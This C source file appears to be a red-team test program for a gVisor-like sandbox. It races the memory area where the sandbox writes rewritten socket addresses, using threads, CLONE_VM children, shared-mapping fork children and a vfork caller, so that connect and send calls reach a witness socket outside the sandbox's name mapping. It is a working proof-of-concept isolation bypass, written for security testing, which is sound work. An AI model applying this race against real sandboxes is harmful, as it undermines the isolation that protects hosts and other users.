/*
 * Route 1 of issue 15: racing the address the sentry writes into the program's memory.
 *
 *   race WITNESS_DIR TOKEN ATTEMPTS [control]
 *
 * A rewritten connect, sendto or sendmsg has its destination (the hidden kernel name of a
 * sandbox socket, and for sendmsg a copy of the msghdr) written at
 * (rsp - 128 - size) & ~15 of the calling thread (ptrace-platform TrappedCall.scratch),
 * where the program's other threads can write. Thread A makes each call on a stack of
 * known place (so the area is known without guessing); racer threads keep writing the
 * witness's sockaddr (and for sendmsg a msghdr pointing at it) over that area. Each call
 * that reaches the witness is an arrival, counted by the witness.
 *
 * Variants, ATTEMPTS calls each: connect to a sandbox stream listener by path and by
 * abstract name; sendto and sendmsg to a sandbox datagram socket by path and abstract name;
 * sendmmsg (one message) by path. Each variant runs against three kinds of racer: threads;
 * clone(CLONE_VM) children (other processes, the same memory); and fork()ed children that
 * share the area only through a MAP_SHARED mapping (the attack stack lives in one), which
 * no check confined to one address space sees. Then once more with thread racers, the calls
 * made by a vfork child (CLONE_VM | CLONE_VFORK: another process in the same memory, whose
 * parent thread is suspended while the racers run on).
 * The size the sentry writes is the hidden name's: read from the kernel's table by the
 * socket's inode (/proc/self/net/unix: under jvisor /proc/net/unix is the sandbox's own, but
 * the per-process names are the kernel's), else the sandbox name's own length.
 *
 * "control" (run natively): thread A writes the sandbox name (or msghdr) into that same
 * area itself and passes it to the kernel, as the sentry does: the witness counting
 * arrivals then shows that the racers win such a race.
 */
#include "redteam.h"

#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <stdatomic.h>
#include <sys/stat.h>
#include <sys/syscall.h>

#define MSGHDR_SIZE 56
#define RED_ZONE 128

#define MMSGHDR_SIZE 64
#define STORAGE_LENGTH 110

/*
 * Everything the racers read and write, in one MAP_SHARED mapping, so that threads,
 * CLONE_VM children and fork()ed children alike see it at the same address: the attack
 * stack, what to write where, and when.
 */
struct arena {
    atomic_int racing, stop_racers;
    unsigned char *name_target, *header_target;
    struct rt_addr witness_name;
    struct msghdr witness_header;
    struct iovec witness_iov;
    char byte;
    char stack[1 << 16] __attribute__((aligned(4096)));
};
static struct arena *arena;
static uintptr_t stack_top;

/* A syscall made with rsp = STACK, so the sentry's scratch area is where the racers write. */
static long syscall_on(uintptr_t stack, long number, long a1, long a2, long a3, long a4, long a5, long a6) {
    long result;
    register long r10 __asm__("r10") = a4;
    register long r8 __asm__("r8") = a5;
    register long r9 __asm__("r9") = a6;
    __asm__ volatile("mov %%rsp, %%r12\n\t"
                     "mov %[stack], %%rsp\n\t"
                     "syscall\n\t"
                     "mov %%r12, %%rsp\n\t"
                     : "=a"(result)
                     : "a"(number), "D"(a1), "S"(a2), "d"(a3), "r"(r10), "r"(r8), "r"(r9), [stack] "r"(stack)
                     : "rcx", "r11", "r12", "memory", "cc");
    return result;
}

static void *name_racer(void *unused) {
    (void)unused;
    while (!atomic_load_explicit(&arena->stop_racers, memory_order_relaxed)) {
        if (!atomic_load_explicit(&arena->racing, memory_order_acquire)) continue;
        volatile unsigned char *to = arena->name_target;
        const unsigned char *from = (const unsigned char *)&arena->witness_name.sun;
        for (socklen_t i = 0; i < arena->witness_name.length; i++) to[i] = from[i];
    }
    return NULL;
}

static void *header_racer(void *unused) {
    (void)unused;
    while (!atomic_load_explicit(&arena->stop_racers, memory_order_relaxed)) {
        if (!atomic_load_explicit(&arena->racing, memory_order_acquire) || arena->header_target == NULL) continue;
        volatile unsigned char *to = arena->header_target;
        const unsigned char *from = (const unsigned char *)&arena->witness_header;
        for (size_t i = 0; i < sizeof arena->witness_header; i++) to[i] = from[i];
    }
    return NULL;
}

static int name_racer_child(void *unused) {
    name_racer(unused);
    _exit(0);
}

static int header_racer_child(void *unused) {
    header_racer(unused);
    _exit(0);
}

/* The two racers of kind KIND ("thread", "clone-vm", "shared"); stop_racers() ends them. */
static pthread_t racer_threads[2];
static pid_t racer_children[2];
static const char *racer_kind;

static void start_racers(const char *kind) {
    racer_kind = kind;
    atomic_store(&arena->stop_racers, 0);
    if (strcmp(kind, "thread") == 0) {
        pthread_create(&racer_threads[0], NULL, name_racer, NULL);
        pthread_create(&racer_threads[1], NULL, header_racer, NULL);
    } else if (strcmp(kind, "clone-vm") == 0) {
        static char stacks[2][1 << 16] __attribute__((aligned(16)));
        racer_children[0] = clone(name_racer_child, stacks[0] + sizeof stacks[0], CLONE_VM | SIGCHLD, NULL);
        racer_children[1] = clone(header_racer_child, stacks[1] + sizeof stacks[1], CLONE_VM | SIGCHLD, NULL);
    } else {
        for (int i = 0; i < 2; i++) {
            racer_children[i] = fork();
            if (racer_children[i] == 0) {
                if (i == 0) name_racer(NULL);
                else header_racer(NULL);
                _exit(0);
            }
        }
    }
}

static void stop_racers(void) {
    atomic_store(&arena->stop_racers, 1);
    if (strcmp(racer_kind, "thread") == 0) {
        pthread_join(racer_threads[0], NULL);
        pthread_join(racer_threads[1], NULL);
    } else {
        for (int i = 0; i < 2; i++) {
            if (racer_children[i] > 0) waitpid(racer_children[i], NULL, __WALL);
        }
    }
}

static void *accept_loop(void *listener) {
    for (;;) {
        int fd = accept(*(int *)listener, NULL, NULL);
        if (fd >= 0) close(fd);
        else if (errno != EINTR && errno != ECONNABORTED) return NULL;
    }
}

static void *receive_loop(void *receiver) {
    char bytes[64];
    for (;;) {
        if (recv(*(int *)receiver, bytes, sizeof bytes, 0) < 0 && errno != EINTR) return NULL;
    }
}

/* The length of the hidden name the kernel's table lists for SOCKET's inode, or 0. */
static socklen_t listed_length(int fd) {
    struct stat st;
    if (fstat(fd, &st) < 0) return 0;
    FILE *table = fopen("/proc/self/net/unix", "r");
    if (table == NULL) return 0;
    char line[512];
    socklen_t length = 0;
    while (fgets(line, sizeof line, table) != NULL) {
        unsigned long inode;
        int path_at = 0;
        if (sscanf(line, "%*s %*s %*s %*s %*s %*s %lu %n", &inode, &path_at) < 1 || inode != st.st_ino) continue;
        if (path_at == 0) break;
        char *name = line + path_at;
        name[strcspn(name, "\n")] = '\0';
        if (*name == '\0') break;
        /* An abstract name is listed with '@' for its NUL; a path's sockaddr counts its NUL. */
        length = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + strlen(name) + (name[0] == '@' ? 0 : 1));
        break;
    }
    fclose(table);
    return length;
}

struct outcome {
    long attempts, ok, errors[ERRNO_SLOTS];
};

static void print_outcome(const char *variant, socklen_t length, const struct outcome *o) {
    char line[1024];
    int used = snprintf(line, sizeof line, "variant %s size %u attempts %ld ok %ld", variant, (unsigned)length,
                        o->attempts, o->ok);
    for (int e = 1; e < ERRNO_SLOTS; e++) {
        if (o->errors[e] != 0) used += snprintf(line + used, sizeof line - (size_t)used, " %s %ld", errno_name(e), o->errors[e]);
    }
    say("%s\n", line);
}

/* In the control, the time between writing the name and the kernel reading it. Under the
 * sentry it spans the tracer's resume of the thread: context switches, during which the
 * racers run. Here a yield (a racer on this CPU runs) and a few microseconds of spinning. */
static void window(void) {
    sched_yield();
    for (int i = 0; i < 200; i++) __builtin_ia32_pause();
}

static void count(struct outcome *o, long result) {
    o->attempts++;
    if (result >= 0) o->ok++;
    else o->errors[errno_slot((int)-result)]++;
}

/* Races ATTEMPTS calls of KIND ("connect", "sendto", "sendmsg", "sendmmsg") to the sandbox socket TARGET. */
static long run_variant(const char *variant, const char *kind, struct rt_addr target, int target_fd, long attempts,
                        int control, const char *witness_dir, const char *token) {
    int stream = strcmp(kind, "connect") == 0, message = strcmp(kind, "sendmsg") == 0;
    int vector = strcmp(kind, "sendmmsg") == 0;
    /* The length of what the sentry hands the kernel: the hidden path it wrote into the
     * argument region (a sandbox call to a sandbox socket has put one there), else the name
     * /proc/net/unix lists. */
    char hidden[sizeof ((struct sockaddr_un *)0)->sun_path + 1];
    socklen_t length = 0;
    if (!control && stream && rt_scan_region(hidden, sizeof hidden, "") == 0) {
        /* No sandbox call has put one there yet: one connect does. */
        int first = socket(AF_UNIX, SOCK_STREAM, 0);
        connect(first, (const struct sockaddr *)&target.sun, target.length);
        close(first);
    }
    if (!control && rt_scan_region(hidden, sizeof hidden, "") > 0)
        length = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + strlen(hidden) + 1);
    if (!control && length == 0) length = listed_length(target_fd);
    if (length == 0) length = target.length;
    /* The sentry's layouts: sendmsg's msghdr copy, 8 bytes, the name; sendmmsg's vector
     * copy, then a sockaddr_un's room per message (DatagramSends). */
    size_t name_offset = message ? MSGHDR_SIZE + 8 : vector ? MMSGHDR_SIZE : 0;
    size_t area = vector ? MMSGHDR_SIZE + STORAGE_LENGTH : name_offset + length;
    uintptr_t scratch = (stack_top - RED_ZONE - area) & ~(uintptr_t)15;
    unsigned char *name_at = (unsigned char *)scratch + name_offset;

    int abstract = target.sun.sun_path[0] == '\0';
    char kind_letter = stream ? 's' : 'd';
    struct rt_addr witness = abstract ? rt_witness_abstract(token, kind_letter, length - offsetof(struct sockaddr_un, sun_path))
                                      : rt_witness_path(witness_dir, kind_letter);
    if (witness.length == 0 || witness.length > length) {
        say("variant %s/%s size %u: no witness name fits\n", variant, racer_kind, (unsigned)length);
        return 0;
    }
    arena->witness_name = witness;
    arena->witness_iov = (struct iovec){.iov_base = &arena->byte, .iov_len = 1};
    arena->witness_header = (struct msghdr){.msg_name = &arena->witness_name.sun, .msg_namelen = witness.length,
                                            .msg_iov = &arena->witness_iov, .msg_iovlen = 1};
    arena->name_target = name_at;
    arena->header_target = message || vector ? (unsigned char *)scratch : NULL;

    static char byte = 'x';
    struct iovec iov = {.iov_base = &byte, .iov_len = 1};
    struct msghdr header = {.msg_name = &target.sun, .msg_namelen = target.length, .msg_iov = &iov, .msg_iovlen = 1};
    struct mmsghdr messages = {.msg_hdr = header};
    struct outcome outcome;
    memset(&outcome, 0, sizeof outcome);
    int sender = stream ? -1 : socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    uintptr_t rsp = scratch + area + RED_ZONE;
    atomic_store_explicit(&arena->racing, 1, memory_order_release);
    for (long i = 0; i < attempts; i++) {
        long result;
        if (stream || !(message || vector)) {
            const void *address = &target.sun;
            if (control) {
                memcpy(name_at, &target.sun, target.length);
                address = name_at;
                window();
            }
            if (stream) {
                int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
                result = syscall_on(rsp, SYS_connect, fd, (long)address, target.length, 0, 0, 0);
                close(fd);
            } else {
                result = syscall_on(rsp, SYS_sendto, sender, (long)&byte, 1, MSG_DONTWAIT, (long)address, target.length);
            }
        } else {
            const void *argument = message ? (const void *)&header : (const void *)&messages;
            if (control) {
                struct msghdr copy = header;
                copy.msg_name = name_at;
                memcpy(name_at, &target.sun, target.length);
                memcpy((void *)scratch, &copy, sizeof copy);
                argument = (void *)scratch;
                window();
            }
            result = message ? syscall_on(rsp, SYS_sendmsg, sender, (long)argument, MSG_DONTWAIT, 0, 0, 0)
                             : syscall_on(rsp, SYS_sendmmsg, sender, (long)argument, 1, MSG_DONTWAIT, 0, 0);
        }
        count(&outcome, result);
    }
    atomic_store_explicit(&arena->racing, 0, memory_order_release);
    if (sender >= 0) close(sender);
    char name[64];
    snprintf(name, sizeof name, "%s/%s", variant, racer_kind);
    print_outcome(name, length, &outcome);
    return outcome.attempts;
}

/* The variants, made by the caller of this function. */
struct variants {
    struct rt_addr *names;
    int *fds;
    long attempts;
    int control;
    const char *witness_dir, *token;
    long total;
};

static long run_variants(struct variants *v) {
    long total = 0;
    total += run_variant("connect-path", "connect", v->names[0], v->fds[0], v->attempts, v->control, v->witness_dir, v->token);
    total += run_variant("connect-abstract", "connect", v->names[1], v->fds[1], v->attempts, v->control, v->witness_dir, v->token);
    total += run_variant("sendto-path", "sendto", v->names[2], v->fds[2], v->attempts, v->control, v->witness_dir, v->token);
    total += run_variant("sendto-abstract", "sendto", v->names[3], v->fds[3], v->attempts, v->control, v->witness_dir, v->token);
    total += run_variant("sendmsg-path", "sendmsg", v->names[2], v->fds[2], v->attempts, v->control, v->witness_dir, v->token);
    total += run_variant("sendmsg-abstract", "sendmsg", v->names[3], v->fds[3], v->attempts, v->control, v->witness_dir, v->token);
    total += run_variant("sendmmsg-path", "sendmmsg", v->names[2], v->fds[2], v->attempts, v->control, v->witness_dir, v->token);
    return total;
}

static int vfork_caller(void *variants) {
    struct variants *v = variants;
    v->total = run_variants(v);
    fflush(stdout);
    _exit(0);
}

int main(int argc, char **argv) {
    if (argc < 4) {
        fprintf(stderr, "usage: race WITNESS_DIR TOKEN ATTEMPTS [control]\n");
        return 2;
    }
    const char *witness_dir = argv[1], *token = argv[2];
    long attempts = atol(argv[3]);
    int control = argc > 4 && strcmp(argv[4], "control") == 0;
    arena = mmap(NULL, sizeof *arena, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    if (arena == MAP_FAILED) {
        perror("race: mmap");
        return 2;
    }
    stack_top = ((uintptr_t)arena->stack + sizeof arena->stack - 4096) & ~(uintptr_t)15;

    /* The sandbox's own sockets: names in a directory of this process, abstract names by pid. */
    char dir[64];
    snprintf(dir, sizeof dir, "/tmp/rt-race-%ld-%s", (long)getpid(), token);
    if (mkdir(dir, 0755) < 0) {
        perror("race: mkdir");
        return 2;
    }
    char path[128];
    struct rt_addr names[4];
    snprintf(path, sizeof path, "%s/listener-of-the-sandbox", dir);
    names[0] = rt_path(path);
    snprintf(path, sizeof path, "%s/datagrams-of-the-sandbox", dir);
    names[2] = rt_path(path);
    for (int i = 1; i < 4; i += 2) {
        memset(&names[i], 0, sizeof names[i]);
        names[i].sun.sun_family = AF_UNIX;
        /* 40 bytes, padded: natively the witness needs an abstract name of this length. */
        int n = snprintf(names[i].sun.sun_path + 1, 40, "rt-race-%ld-%c-", (long)getpid(), i == 1 ? 's' : 'd');
        memset(names[i].sun.sun_path + 1 + n, 'y', 39 - (size_t)n);
        names[i].length = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 40);
    }
    int fds[4];
    pthread_t thread;
    for (int i = 0; i < 4; i++) {
        int stream = i < 2;
        fds[i] = socket(AF_UNIX, (stream ? SOCK_STREAM : SOCK_DGRAM) | SOCK_CLOEXEC, 0);
        if (fds[i] < 0 || bind(fds[i], (struct sockaddr *)&names[i].sun, names[i].length) < 0 ||
            (stream && listen(fds[i], 4096) < 0)) {
            perror("race: sandbox socket");
            return 2;
        }
        pthread_create(&thread, NULL, stream ? accept_loop : receive_loop, &fds[i]);
    }
    long total = 0;
    struct variants v = {names, fds, attempts, control, witness_dir, token, 0};
    const char *racers[3] = {"thread", "clone-vm", "shared"};
    for (int r = 0; r < 3; r++) {
        start_racers(racers[r]);
        total += run_variants(&v);
        stop_racers();
    }
    start_racers("thread");
    racer_kind = "thread/vfork-caller";
    static char caller_stack[1 << 16] __attribute__((aligned(16)));
    pid_t caller = clone(vfork_caller, caller_stack + sizeof caller_stack, CLONE_VM | CLONE_VFORK | SIGCHLD, &v);
    if (caller > 0) waitpid(caller, NULL, 0);
    else perror("race: vfork caller");
    total += v.total;
    racer_kind = "thread";
    stop_racers();
    unlink(names[0].sun.sun_path);
    unlink(names[2].sun.sun_path);
    rmdir(dir);
    say("attempts %ld\n", total);
    _exit(0);
}
